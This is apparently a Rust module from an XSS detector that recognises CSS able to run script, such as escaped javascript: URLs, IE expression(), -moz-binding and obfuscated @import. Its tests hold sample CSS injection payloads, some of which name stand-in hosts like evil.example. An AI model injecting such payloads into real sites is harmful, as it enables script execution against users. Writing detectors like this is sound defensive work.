//! CSS that runs script, for the XSS detector: what a `style` attribute, a `<style>` element or a
//! value pasted into either may hold.
//!
//! Input: CSS text (normalized: lower-case) and a scratch buffer. Output: confirmed or
//! suspicious. The text is first read as a CSS parser reads it: comments dropped, escapes undone
//! (`\76` and `\000076 ` are `v`, `\v` is `v`, so `ja\vasc\ript:` is `javascript:` and
//! `ex\pression(` is `expression(`). Then, in a style context, these are confirmed: a script URL
//! where CSS loads one (`url(javascript:…)`, `@import 'javascript:…'`; in a selector such as
//! `a[href^="javascript:"]` it is text), an IE `expression(`, `-moz-binding`, IE's `behavior:`
//! (not `scroll-behavior:`), and an `@import` written with escapes or comments or of a `data:`
//! URL. A plain `@import` of a stylesheet (`@import url(https://fonts.example/…)`, as newsletters
//! have) is suspicious. Outside a style context (a value that may be pasted into one), an
//! `expression(` after a `:` whose argument starts with a script sink is confirmed
//! (`x:expression(alert(1))`), not prose about "an expression(s)".

use super::classes;

/// Bytes of CSS read per call (a style element or attribute is read once, so the whole scan stays
/// linear either way).
const MAX_CSS: usize = 64 * 1024;

/// IE's `behavior:` property (not `scroll-behavior:`), which loads an HTML component (`.htc`)
/// that runs script. Confirmed in a style context only: outside one, `behavior: url(PIE.htc)` is
/// what a theme setting of a site that used CSS3 PIE holds, IE ≤ 9 was the last to run it, and it
/// loads a same-origin file only, so a value that holds it is suspicious.
pub fn behavior_property(s: &[u8]) -> bool {
    // Found from its `b` (`classes::find` would compare at every byte: the word has no
    // punctuation to anchor on).
    memchr::memchr_iter(b'b', s).any(|at| {
        classes::tick(8);
        let from = at + 8;
        let property = s[at..].starts_with(b"behavior") && (at == 0 || !(s[at - 1].is_ascii_alphanumeric() || s[at - 1] == b'-'));
        property && s.get(from + s[from..].iter().take(8).take_while(|&&b| b == b' ').count()) == Some(&b':')
    })
}

/// Reads CSS as a parser does into `out`: comments out, escapes undone, lower-cased. Returns
/// whether anything was undone.
fn unescape(src: &[u8], out: &mut Vec<u8>) -> bool {
    let src = &src[..src.len().min(MAX_CSS)];
    classes::tick(src.len());
    out.clear();
    let mut changed = false;
    let mut i = 0;
    while i < src.len() {
        match src[i] {
            b'/' if src.get(i + 1) == Some(&b'*') => {
                changed = true;
                i = classes::find(&src[i + 2..], b"*/").map_or(src.len(), |k| i + 2 + k + 2);
            }
            b'\\' => {
                changed = true;
                let hex = src[i + 1..].iter().take(6).take_while(|b| b.is_ascii_hexdigit()).count();
                if hex > 0 {
                    let digits = std::str::from_utf8(&src[i + 1..i + 1 + hex]).unwrap_or("0");
                    let c = u32::from_str_radix(digits, 16).unwrap_or(0);
                    out.push(if (1..0x80).contains(&c) { (c as u8).to_ascii_lowercase() } else { 0x80 });
                    i += 1 + hex;
                    // One blank after a hex escape belongs to it.
                    if src.get(i).is_some_and(|&b| matches!(b, b' ' | b'\t' | b'\n' | b'\r' | 0x0C)) {
                        i += 1;
                    }
                } else {
                    match src.get(i + 1) {
                        // An escaped newline continues a string.
                        Some(b'\n') => {}
                        Some(&c) => out.push(c.to_ascii_lowercase()),
                        None => {}
                    }
                    i += 2;
                }
            }
            0 => i += 1,
            b => {
                out.push(b.to_ascii_lowercase());
                i += 1;
            }
        }
    }
    changed
}

/// Occurrences of `word` in `s`, at most 8 (more imports than that are counted as 8 either way).
fn count(s: &[u8], word: &[u8]) -> usize {
    let mut n = 0;
    let mut from = 0;
    while let Some(k) = classes::find(&s[from..], word) {
        n += 1;
        from += k + word.len();
        if n == 8 {
            break;
        }
    }
    n
}

/// `expression` then blanks and `(` at `s[at..]`: where its argument starts.
fn expression_call(s: &[u8], at: usize) -> Option<usize> {
    let j = at + 10 + s[at + 10..].iter().take(16).take_while(|&&b| matches!(b, b' ' | b'\t' | b'\n')).count();
    (s.get(j) == Some(&b'(')).then_some(j + 1)
}

/// A `javascript:` or `vbscript:` URL where CSS loads one: in `url(…)`, after `@import`, or as
/// Opera's `-o-link:`. In a selector (`a[href^="javascript:"]:after`, in every print style
/// sheet built on HTML5 Boilerplate) or a `content` string it is text.
fn script_url(s: &[u8]) -> bool {
    for scheme in [&b"javascript:"[..], b"vbscript:"] {
        let mut from = 0;
        while let Some(k) = classes::find(&s[from..], scheme) {
            let at = from + k;
            from = at + scheme.len();
            let before = &s[at.saturating_sub(24)..at];
            let skipped = before.iter().rev().take_while(|&&b| matches!(b, b' ' | b'\t' | b'\n' | b'"' | b'\'')).count();
            let before = &before[..before.len() - skipped];
            if before.ends_with(b"url(") || before.ends_with(b"@import") || before.ends_with(b"link:") {
                return true;
            }
        }
    }
    false
}

/// Whether CSS `css` (normalized) runs script. `style`: it is inside a style context; otherwise
/// it is a value that may be pasted into one. `sink`: whether a script sink starts at an index.
/// Returns (confirmed, suspicious).
pub fn scripting(css: &[u8], style: bool, buf: &mut Vec<u8>, sink: impl Fn(&[u8], usize) -> bool) -> (bool, bool) {
    let escaped = unescape(css, buf);
    let s = buf.as_slice();
    let mut from = 0;
    let mut suspicious = false;
    while let Some(k) = classes::find(&s[from..], b"expression") {
        let at = from + k;
        from = at + 10;
        let Some(arg) = expression_call(s, at) else { continue };
        suspicious = true;
        let declared = s[..at].trim_ascii_end().ends_with(b":");
        let arg = arg + s[arg..].iter().take(16).take_while(|&&b| b == b' ').count();
        if style || (declared && sink(s, arg)) {
            return (true, true);
        }
    }
    if !style {
        return (false, suspicious);
    }
    if classes::contains(s, b"-moz-binding") || script_url(s) {
        return (true, true);
    }
    if behavior_property(s) {
        return (true, true);
    }
    // An import of a `data:` URL, or one written with escapes or comments.
    let mut imports = 0;
    let mut from = 0;
    while let Some(k) = classes::find(&s[from..], b"@import") {
        imports += 1;
        let mut j = from + k + 7;
        j += s[j..].iter().take(16).take_while(|&&b| matches!(b, b' ' | b'\t' | b'\n')).count();
        if s[j..].starts_with(b"url(") {
            j += 4;
        }
        j += s[j..].iter().take(16).take_while(|&&b| matches!(b, b' ' | b'\'' | b'"')).count();
        if s[j..].starts_with(b"data:") {
            return (true, true);
        }
        from = j;
    }
    if imports > 0 {
        if escaped && imports.min(8) > count(css, b"@import") {
            return (true, true);
        }
        suspicious = true;
    }
    (false, suspicious)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn css(s: &str, style: bool) -> (bool, bool) {
        let l = s.to_ascii_lowercase();
        scripting(l.as_bytes(), style, &mut Vec::new(), |s: &[u8], at: usize| s[at..].starts_with(b"alert"))
    }

    #[test]
    fn escapes_and_comments_are_undone() {
        let mut out = Vec::new();
        assert!(unescape(b"ja\\vasc\\ript:\\61 lert/**/(1)", &mut out));
        assert_eq!(out, b"javascript:alert(1)");
        assert!(unescape(b"\\000065xpression", &mut out));
        assert_eq!(out, b"expression");
        assert!(!unescape(b"color: red", &mut out));
    }

    #[test]
    fn script_in_style_contexts_is_confirmed() {
        for p in [
            "background:url(ja\\vasc\\ript:alert(1))",
            "x:ex\\pression(alert(1))",
            "width: expression (alert(1))",
            "body{background:url(\"javascript:alert(1)\")}",
            "@import 'javascript:alert(1)';",
            "a { -o-link: javascript:alert(1); -o-link-source: current }",
            "@im\\port 'http://evil.example/x.css';",
            "@imp/**/ort url(//evil.example/x.css);",
            "@import url(data:text/css;base64,Ym9keXt9);",
            "behavior: url(x.htc)",
            "-moz-binding:url(http://x.example/xss.xml#xss)",
        ] {
            assert!(css(p, true).0, "{p}");
        }
        assert!(css("red;x:expression(alert(1))", false).0, "a value pasted into a style");
    }

    #[test]
    fn ordinary_css_and_prose_stay_unconfirmed() {
        for t in [
            "color: red; font-family: \"\\5FAE\\8F6F\\96C5\\9ED1\", sans-serif",
            "q::before { content: \"\\201C\"; }",
            ".md\\:flex { display: flex } .w-1\\/2 { width: 50% }",
            "@import url('https://fonts.googleapis.com/css?family=Roboto');",
            "a { background: url(/img/bg.png) }",
            "@import url(https://fonts.example/a.css); .i { background: url(data:image/png;base64,iVBORw0KGgo=) }",
            "html { scroll-behavior: smooth } .x { overscroll-behavior: contain }",
            "@media print { a[href^=\"javascript:\"]:after, a[href^=\"#\"]:after { content: \"\"; } }",
            "q::after { content: 'javascript: the good parts' }",
        ] {
            assert!(!css(t, true).0, "{t}");
        }
        assert_eq!(css("@import url('https://fonts.googleapis.com/css?family=Roboto');", true), (false, true));
        for t in ["Note: expression(s) are evaluated lazily", "a regular expression (regex) matches", "x:expression(foo)"] {
            assert!(!css(t, false).0, "{t}");
        }
    }
}
